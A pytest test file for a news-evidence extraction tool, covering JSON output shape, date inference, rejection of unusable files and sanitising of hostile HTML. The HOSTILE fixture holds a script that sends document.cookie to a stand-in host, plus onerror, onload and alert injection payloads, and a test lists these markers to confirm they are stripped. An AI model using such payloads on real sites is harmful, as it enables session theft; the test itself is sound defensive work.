"""The evidence commands end to end: extract's JSON shape, --date, hostile and unusable files.

Every text here was written for these tests.
"""

from __future__ import annotations

import datetime as dt
import json
import sqlite3
from pathlib import Path

import pytest

from stratagem.cli import main
from stratagem.evidence.ingest import MAX_DOCUMENT_BYTES, read_document
from stratagem.evidence.pubdate import date_in_line, header_date, latest_full_date, wire_dateline

UNDATED = (
    "Militias raise the pressure\n\n"
    "On Tuesday, Kata'ib Hezbollah warned the United States that its bases would be targeted again. "
    "On March 3, Prime Minister Mohammed Shia al-Sudani met the U.S. ambassador in Baghdad. "
    "\u201cWe want an orderly end to the coalition mission,\u201d Sudani said after the meeting.\n"
)

HOSTILE = (
    "<!doctype html><html><head><title>Talks</title><script>fetch('http://bad.example/'+document.cookie)"
    "</script></head><body onload=\"steal()\"><article><p onclick=\"alert(1)\">On March 3, 2024, Prime Minister "
    "Mohammed Shia al-Sudani met the U.S. ambassador in Baghdad to discuss the coalition's future, officials "
    "said.<img src=x onerror=\"alert(2)\"></p><p>Kata'ib Hezbollah warned the United States on March 4, 2024 that "
    "its bases would be targeted again.<script>alert(3)</script></p></article></body></html>"
)


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    try:
        main(list(args))
        code = 0
    except SystemExit as exc:
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def _file(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_extract_json_has_exactly_the_documented_shape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = _file(tmp_path, "note.txt", UNDATED.encode())
    code, out, _ = _run(capsys, "extract", str(path), "--json", "--date", "2024-03-08")
    assert code == 0
    data = json.loads(out)
    assert set(data) == {"actors", "entities", "quotes", "events"}
    assert all(isinstance(a, str) for a in data["actors"]) and "Kata'ib Hezbollah" in data["actors"]
    cleaned = read_document(path).cleaned
    for ent in data["entities"]:
        assert set(ent) == {"id", "name", "kind", "gazetteer_id", "mentions"} and ent["kind"] in {"person", "organisation"}
        assert all(cleaned[a:b] in ent["name"] or ent["name"] in cleaned[a:b] or ent["gazetteer_id"]
                   for a, b in ent["mentions"])
    sudani = [e for e in data["entities"] if e["gazetteer_id"] == "sudani"]
    assert len(sudani) == 1 and len(sudani[0]["mentions"]) == 2  # "Mohammed Shia al-Sudani" ... "Sudani"
    assert data["quotes"], "the quotation was found"
    for q in data["quotes"]:
        assert set(q) == {"speaker", "speaker_actor", "text", "direct", "kind", "quoted", "cue", "reported_by", "speaker_basis",
                          "start", "end"}
        assert q["kind"] in {"direct", "mixed", "indirect"} and q["direct"] == (q["kind"] == "direct")
        assert cleaned[q["start"] : q["end"]] == q["text"]
    assert {(e["date"], e["action"]) for e in data["events"]} >= {("2024-03-05", "THREATEN"), ("2024-03-03", "CONSULT")}
    for e in data["events"]:
        assert set(e) == {"date", "actor", "action", "target", "sentence", "start", "end", "date_estimated"}
        assert cleaned[e["start"] : e["end"]] == e["sentence"]
        assert e["target"] is None or isinstance(e["target"], str)


def test_date_is_used_only_when_the_document_has_none(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    undated = _file(tmp_path, "undated.txt", UNDATED.encode())
    code, out, _ = _run(capsys, "extract", str(undated), "--json")
    assert code == 0 and json.loads(out)["events"] == []  # no year for "March 3", no date for "Tuesday"
    dated = _file(tmp_path, "dated.txt", UNDATED.replace("\n\n", "\n\nBy A. Writer | 10 March 2023\n\n", 1).encode())
    code, out, _ = _run(capsys, "extract", str(dated), "--json", "--date", "2024-03-08")
    assert {e["date"] for e in json.loads(out)["events"]} == {"2023-03-07", "2023-03-03"}  # the dateline wins
    code, out, _ = _run(capsys, "extract", str(undated), "--date", "2024-13-01")
    assert code == 2


def test_extract_without_json_prints_a_readable_view(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _run(capsys, "extract", str(_file(tmp_path, "n.txt", UNDATED.encode())), "--date", "2024-03-08")
    assert code == 0 and "events (2)" in out and "THREATEN" in out and "2024-03-08 (supplied)" in out


def test_the_readable_view_marks_a_guessed_speaker(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = ("A short story\n\nMayor Henrika Dalsgaard toured the pier on Tuesday.\n\nThe crowd cheered. "
            "“We rebuild it this week.”\n")
    code, out, _ = _run(capsys, "extract", str(_file(tmp_path, "g.txt", text.encode())))
    assert code == 0 and "Dalsgaard?" in " ".join(out.split())


def test_hostile_html_is_stored_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    page = _file(tmp_path, "page.html", HOSTILE.encode())
    db = tmp_path / "w.db"
    code, _, _ = _run(capsys, "ingest", str(page), "--workspace", str(db))
    assert code == 0
    con = sqlite3.connect(db)
    raw_type, raw, cleaned = con.execute("SELECT typeof(raw), raw, cleaned FROM documents").fetchone()
    con.close()
    assert raw_type == "blob" and raw == HOSTILE.encode()  # the bytes as they came, never interpreted
    for bad in ("<script", "document.cookie", "alert(", "onload", "onerror", "onclick", "<img", "fetch("):
        assert bad not in cleaned, bad
    assert "met the U.S. ambassador" in cleaned
    code, out, _ = _run(capsys, "evidence", "--workspace", str(db), "--json")
    assert code == 0 and "alert(" not in out and "<script" not in out
    code, out, _ = _run(capsys, "extract", str(page), "--json")
    assert code == 0 and "alert(" not in out and "cookie" not in out


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("empty.txt", b"", "empty file"),
        ("scan.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "PDF"),
        ("photo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64, "PNG"),
        ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64, "JPEG"),
        ("mixed.txt", "Iraq\u2019s parliament voted again.".encode() + b" \xff\xfe broken bytes.\n", "invalid UTF-8"),
        ("noise.txt", bytes(range(0x80, 0x100)) * 40, "cannot decode"),
    ],
)
def test_unusable_files_exit_2_with_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, data: bytes, reason: str
) -> None:
    path = _file(tmp_path, name, data)
    for args in (("extract", str(path), "--json"), ("ingest", str(path), "--workspace", str(tmp_path / "w.db"))):
        code, out, err = _run(capsys, *args)
        assert code == 2, (args, out, err)
        lines = [ln for ln in err.splitlines() if ln.strip()]
        assert len(lines) == 1 and name in lines[0] and reason in lines[0], lines
        assert "Traceback" not in err


def test_a_50_mb_file_is_refused_above_the_limit(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "huge.txt"
    with path.open("wb") as f:
        f.truncate(50 * 1024 * 1024)  # sparse: nothing is written to disk
    assert path.stat().st_size > MAX_DOCUMENT_BYTES
    for args in (("extract", str(path)), ("ingest", str(path), "--workspace", str(tmp_path / "w.db"))):
        code, _, err = _run(capsys, *args)
        lines = [ln for ln in err.splitlines() if ln.strip()]
        assert code == 2 and len(lines) == 1 and "52.4 MB, above the 20 MB limit" in lines[0], lines


# --- publication dates without being told (stratagem.evidence.pubdate) ---------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("January 5, 2020", "2020-01-05"),
        ("Jan. 5, 2020", "2020-01-05"),
        ("05 Jan 2020", "2020-01-05"),
        ("Published: 5 January 2020", "2020-01-05"),
        ("Updated Jan. 5, 2020, 10:32 a.m. ET", "2020-01-05"),
        ("By Jane Doe | January 5, 2020", "2020-01-05"),
        ("Monday 6 January 2020 14.35 GMT", "2020-01-06"),
        ("2020-01-05", "2020-01-05"),
        ("Sept. 14, 2021", "2021-09-14"),
        ("Troops at a base near Erbil, Jan 5, 2020 (Photo/Staff)", None),  # a caption
        ("What the January 3, 2020 strike changed for the region", None),  # a title mentioning a date
    ],
)
def test_header_lines_with_a_date(line: str, expected: str | None) -> None:
    found = date_in_line(line)
    assert (found.isoformat() if found else None) == expected


def test_wire_datelines() -> None:
    assert wire_dateline("BAGHDAD, Jan. 5, 2020 (Wire) - Iraq's parliament voted on Sunday.") == dt.date(2020, 1, 5)
    assert wire_dateline("ERBIL, Iraq, 5 January 2020 (AFP) - Kurdish leaders met.") == dt.date(2020, 1, 5)
    assert wire_dateline("BAGHDAD (Wire) - no date here.") is None
    body = "BAGHDAD, March 3, 2024 (Wire) - " + "Officials met again to talk about the coalition and its future. " * 2
    assert header_date("Some title\n\n" + body, "Some title\n\n" + body) == dt.date(2024, 3, 3)


def test_latest_full_date_is_only_an_estimate(tmp_path: Path) -> None:
    text = ("Talks went on\n\nThe first round was held on 12 May 2021 in Baghdad and the second on 2 June 2021 in "
            "Washington, when both sides agreed on a further meeting. On Tuesday, officials said, the delegations "
            "spoke again. On April 9, the militias had warned the government about the talks.\n")
    assert latest_full_date(text) == dt.date(2021, 6, 2)
    doc = read_document(_file(tmp_path, "t.txt", text.encode()))
    assert doc.date == dt.date(2021, 6, 2) and doc.date_source == "text-latest"
    from stratagem.evidence.extract import extract

    dates = {e.date for e in extract(doc).events}
    assert "2021-04-09" in dates  # a yearless date takes the estimate's year
    assert not any(d.startswith("2021-06-01") for d in dates)  # "Tuesday" is not resolved against an estimate


def test_html_metadata_date(tmp_path: Path) -> None:
    html = HOSTILE.replace("<title>Talks</title>", '<title>Talks</title><meta property="article:published_time" '
                           'content="2024-03-05T08:00:00Z">')
    doc = read_document(_file(tmp_path, "p.html", html.encode()))
    assert doc.date == dt.date(2024, 3, 5) and doc.date_source == "html-meta"
